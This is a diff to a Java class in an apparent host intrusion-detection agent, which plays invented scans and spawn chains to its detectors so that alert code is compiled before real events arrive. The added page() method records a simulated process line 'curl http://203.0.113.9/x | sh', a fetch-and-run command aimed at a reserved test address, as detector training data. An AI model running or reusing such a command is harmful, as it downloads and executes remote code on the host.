@@ -2,107 +2,152 @@ package dev.rubato.agent;
 
 import dev.rubato.alert.AlertSink;
 import dev.rubato.detect.Detector;
+import dev.rubato.detect.FactSink;
 import dev.rubato.detect.Pipeline;
 import dev.rubato.event.Address;
 import dev.rubato.event.Event;
 import dev.rubato.event.Flow;
 import dev.rubato.event.ProcessImage;
+import dev.rubato.event.ProcessImage.Stdin;
 import dev.rubato.event.ProcessKey;
-import java.util.ArrayList;
 import java.util.List;
 
 /**
- * Plays invented scans to a pipeline of its own before anything is watched, so that the code of an alert is loaded and
- * compiled when the first real one comes; otherwise that one takes tenths of a second. What comes of it goes to the given
- * sink alone.
+ * Plays invented scans and spawn chains to a pipeline of its own, so that the code of an alert is loaded and compiled when
+ * the first real one comes; otherwise that one takes tenths of a second, and the twenty after it milliseconds each. What
+ * comes of it goes to the given sinks alone. Owned by one thread.
+ *
+ * <p>A few rounds at the start load the code. The compiler has thousands of methods to do then, and as long as it is behind
+ * it asks for more calls of each before it takes it; so most rounds are for the quiet moments after that.
  */
 final class Rehearsal {
+    /** Rounds before anything is watched: each has two scans and a spawn chain, with an alert and updates each. */
+    static final int ROUNDS = 4;
+
     /**
-     * Rounds of two scans, each of which makes an alert and updates. With the threshold that {@code bin/rubato} sets, the
-     * compiler takes a method after twenty calls; with fewer scans it is still busy when the first real alerts come, and
-     * takes milliseconds from them where processors are few.
+     * Rounds after that. With the threshold that {@code bin/rubato} sets, a method's calls are looked at after each eighth,
+     * and it is compiled from twenty on, or a few times as many while the compiler is behind.
      */
-    static final int ROUNDS = 20;
+    static final int LATER_ROUNDS = 36;
 
     private static final int CONTACTS = 30;
     private static final long STEP_NS = 10_000_000L;
 
-    /** Between two scans, so that each is an episode of its own. */
+    /** Between two parts, so that each is an episode of its own. */
     private static final long PAUSE_NS = 3_600_000_000_000L;
 
     private static final int FIRST_PID = 1_000;
     private static final int SSH = 22;
+    private static final int HTTPS = 443;
+    private static final int SERVICE_PORT = 8_081;
     private static final int SOURCE_PORTS = 50_000;
+    private static final int TTY = 34_816;
     private static final Address HERE = Address.ofV4(10 << 24 | 1);
     private static final Address LOOPBACK = Address.ofV4(127 << 24 | 1);
+
+    /** Of TEST-NET-3 (RFC 5737): no host has it. */
+    private static final Address PAGE = Address.parse("203.0.113.9");
+
     private static final ProcessKey INIT = new ProcessKey(1, 1);
 
     private final Pipeline pipeline;
+    private final ProcessKey shell;
+    private final ProcessKey service;
     private long timeNs = PAUSE_NS;
+    private int round;
     private int nextPid = FIRST_PID;
     private long nextSocket = 1;
 
-    private Rehearsal(List<Detector.Factory> detectors, AlertSink alerts) {
-        pipeline = new Pipeline(detectors, alerts);
-    }
-
-    /** Plays it; the detectors of {@code detectors} are made anew for it. */
-    static void play(List<Detector.Factory> detectors, AlertSink alerts) {
-        Rehearsal rehearsal = new Rehearsal(detectors, alerts);
-        rehearsal.begin();
-        for (int round = 0; round < ROUNDS; round++) {
-            rehearsal.sweepOfAddresses(round);
-            rehearsal.sweepOfPorts(round);
-        }
-    }
-
-    private void begin() {
+    /** Begins one with the detectors of {@code detectors}, made anew. */
+    Rehearsal(List<Detector.Factory> detectors, AlertSink alerts, FactSink facts) {
+        pipeline = new Pipeline(detectors, alerts, facts);
         pipeline.accept(new Event.AgentStarted(timeNs, "", "", new ProcessKey(2, 1)));
         pipeline.accept(new Event.SensorStarted(timeNs, "rehearsal", Event.Visibility.EXACT, ""));
         pipeline.accept(new Event.NetworkChanged(
                 timeNs, List.of(new Event.InterfaceAddress("eth0", HERE, Byte.SIZE)), List.of()));
         pipeline.accept(new Event.ProcessExecuted(
-                timeNs, INIT, null, image(INIT, List.of("/sbin/init")), Event.Basis.SNAPSHOT));
+                timeNs, INIT, null, image(INIT, Stdin.NULL_DEVICE, List.of("/sbin/init")), Event.Basis.SNAPSHOT));
+        ProcessKey terminal = spawn(INIT, Stdin.NULL_DEVICE, "/usr/bin/terminal");
+        shell = spawn(terminal, Stdin.TERMINAL, "/usr/bin/bash");
+        service = spawn(shell, Stdin.TERMINAL, "/usr/bin/node", "server.js");
+        pipeline.accept(
+                new Event.ListenerOpened(timeNs, nextSocket++, LOOPBACK, SERVICE_PORT, service, Event.Basis.EXACT));
     }
 
-    private void sweepOfAddresses(int round) {
-        ProcessKey scanner = spawn("/usr/bin/scanner", "--password", "example");
+    /** Plays the first rounds. */
+    void begin() {
+        while (round < ROUNDS) {
+            playRound();
+        }
+    }
+
+    /** Plays one more round, which takes some milliseconds; whether there is another. */
+    boolean goOn() {
+        playRound();
+        return round < ROUNDS + LATER_ROUNDS;
+    }
+
+    private void playRound() {
+        sweepOfAddresses();
+        sweepOfPorts();
+        page();
+        round++;
+    }
+
+    private void sweepOfAddresses() {
+        ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "--password", "example");
         for (int i = 1; i <= CONTACTS; i++) {
-            connect(scanner, HERE, Address.ofV4((10 << 24) | ((round + 1) << Byte.SIZE) | i), SSH);
+            connect(
+                    scanner,
+                    HERE,
+                    Address.ofV4((10 << 24) | ((round + 1) << Byte.SIZE) | i),
+                    SSH,
+                    Event.Outcome.REFUSED);
         }
         pause();
     }
 
-    private void sweepOfPorts(int round) {
-        ProcessKey scanner = spawn("/usr/bin/scanner", "ports");
+    private void sweepOfPorts() {
+        ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "ports");
         for (int i = 1; i <= CONTACTS; i++) {
-            connect(scanner, LOOPBACK, LOOPBACK, round * CONTACTS + i);
+            connect(scanner, LOOPBACK, LOOPBACK, round * CONTACTS + i, Event.Outcome.REFUSED);
         }
         pause();
     }
 
-    private ProcessKey spawn(String exe, String... args) {
+    /** A page in a browser makes the service start a shell. */
+    private void page() {
+        ProcessKey browser = spawn(shell, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--headless");
+        spawn(browser, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--type=zygote");
+        ProcessKey network = spawn(
+                browser, Stdin.NULL_DEVICE, "/proc/self/exe", "--type=utility", "--utility-sub-type=network.mojom");
+        connect(network, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
+        connect(network, LOOPBACK, LOOPBACK, SERVICE_PORT, Event.Outcome.ESTABLISHED);
+        spawn(service, Stdin.PIPE, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh");
+        pause();
+    }
+
+    private ProcessKey spawn(ProcessKey parent, Stdin stdin, String... line) {
         timeNs += STEP_NS;
         ProcessKey process = new ProcessKey(nextPid++, timeNs);
-        List<String> line = new ArrayList<>(List.of(exe));
-        line.addAll(List.of(args));
-        pipeline.accept(new Event.ProcessForked(timeNs, process, INIT));
-        pipeline.accept(new Event.ProcessExecuted(timeNs, process, null, image(process, line), Event.Basis.EXACT));
+        pipeline.accept(new Event.ProcessForked(timeNs, process, parent));
+        pipeline.accept(new Event.ProcessExecuted(
+                timeNs, process, null, image(process, stdin, List.of(line)), Event.Basis.EXACT));
         return process;
     }
 
-    private static ProcessImage image(ProcessKey process, List<String> line) {
-        return new ProcessImage(
-                line.getFirst(), line, true, "1000", process.pid(), 0, ProcessImage.Stdin.NULL_DEVICE, "", "/");
+    private static ProcessImage image(ProcessKey process, Stdin stdin, List<String> line) {
+        int tty = stdin == Stdin.TERMINAL ? TTY : 0;
+        return new ProcessImage(line.getFirst(), line, true, "1000", process.pid(), tty, stdin, "", "/");
     }
 
-    private void connect(ProcessKey owner, Address from, Address to, int port) {
+    private void connect(ProcessKey owner, Address from, Address to, int port, Event.Outcome outcome) {
         timeNs += STEP_NS;
         long socket = nextSocket++;
         Flow flow = new Flow(Flow.Protocol.TCP, from, FIRST_PID + (int) (socket % SOURCE_PORTS), to, port);
         pipeline.accept(
                 new Event.ConnectionOpened(timeNs, socket, flow, Flow.Direction.OUTBOUND, owner, Event.Basis.EXACT));
-        pipeline.accept(new Event.ConnectionResolved(timeNs, socket, flow, Event.Outcome.REFUSED, Event.Basis.EXACT));
+        pipeline.accept(new Event.ConnectionResolved(timeNs, socket, flow, outcome, Event.Basis.EXACT));
     }
 
     private void pause() {
